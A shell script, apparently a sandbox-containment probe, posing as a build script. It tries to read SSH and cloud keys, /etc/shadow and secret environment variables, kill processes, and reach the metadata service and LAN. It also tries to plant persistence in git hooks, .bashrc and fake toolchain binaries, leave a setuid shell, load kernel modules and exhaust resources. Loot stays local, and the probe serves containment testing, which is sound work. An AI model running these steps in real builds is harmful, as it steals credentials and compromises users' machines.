#!/bin/sh
# A helpful build script. It also takes and breaks what it can reach.
#
# Usage: build.sh PORT PROCESS AGENT [local]
# PORT is a service on the loopback of whoever runs this, PROCESS another process of his, AGENT the socket of his agent.
# With `local`, it touches no network but loopback and leaves the kernel alone.
#
# What it gets goes to loot/NAME, and how each attempt looked from here to loot/attempts. What became of an attempt is not
# decided here: run.sh looks from outside.

port="$1" process="$2" agent="$3" scope="${4:-all}"
mkdir -p loot
printf 'Building... done.\n'

# try NAME COMMAND...: notes whether the command seemed to work, and its last words if not.
try() {
    name="$1"
    shift
    if "$@" >"loot/$name" 2>loot/error </dev/null; then
        printf '%s|seemed to work\n' "$name" >>loot/attempts
    else
        words="$(head -n 1 loot/error | sed 's/.*: //; s/|//g' | cut -c 1-40)"
        printf '%s|%s\n' "$name" "${words:-nothing there}" >>loot/attempts
    fi
}

put() { mkdir -p "$(dirname "$1")" && printf '# planted\n' >>"$1"; }

# Perl is part of every Debian and Ubuntu.
reach() {
    perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "$ARGV[0]:$ARGV[1]", Timeout => 2) or die "$!\n"' "$@"
}
reach_socket() {
    perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => $ARGV[0]) or die "$!\n"' "$1"
}

# Secrets.
try ssh-key cat "$HOME/.ssh/id_ed25519"
try cloud-key cat "$HOME/.aws/credentials"
try documents cat "$HOME/Documents/taxes.txt"
try environment sh -c 'env | grep -E "TOKEN|SECRET"'
try shadow cat /etc/shadow
try process-environment cat "/proc/$process/environ"
try agent reach_socket "$agent"

# Other processes.
try kill sh -c "kill -9 $process"

# The network.
try loopback reach 127.0.0.1 "$port"
if [ "$scope" = all ]; then
    try metadata reach 169.254.169.254 80
    try lan reach 192.168.1.1 80
fi

# What runs later, outside.
try git-hook put .git/hooks/post-commit
try git-config git config core.fsmonitor planted
try envrc put .envrc
try editor-tasks put .vscode/tasks.json
try bashrc put "$HOME/.bashrc"
try false-git put "$HOME/.local/bin/git"
try toolchain put "$HOME/.cargo/bin/cargo"
try other-project put ../other-project/Makefile
leave_set_id() { cp /bin/sh helper && chmod u+s helper; }
try set-id leave_set_id

# The kernel. Loading a module from nothing is refused natively too, but only for want of privilege or of a module.
if [ "$scope" = all ]; then
    case "$(uname -m)" in
    x86_64) init_module=175 ;;
    *) init_module=105 ;;
    esac
    try module perl -e 'my $nothing = ""; syscall($ARGV[0], 0, 0, $nothing) == 0 or die "$!\n"' "$init_module"
    try mount mount -t tmpfs none /mnt
    try namespaces unshare --user --mount true
fi

# Resources: 40 MB in /tmp, a hundred processes at once, one that stays.
try fill-tmp sh -c "head -c 40000000 /dev/zero >'/tmp/filled-by-$process'"
# Stops at the limit, says how far it came, and ends what it started.
try fork-many perl -e '
    my @children;
    for (1 .. 100) {
        my $child = fork;
        last if !defined $child;
        if (!$child) { sleep 30; exit }
        push @children, $child;
    }
    my $error = $!;
    print scalar(@children), "\n";
    kill "KILL", @children;
    waitpid $_, 0 for @children;
    @children == 100 or die "$error\n";
'
setsid sh -c 'while [ -d loot ]; do echo alive >>loot/daemon; sleep 0.2; done' >/dev/null 2>&1 </dev/null &
printf 'daemon|started\n' >>loot/attempts
sleep 0.5
exit 0
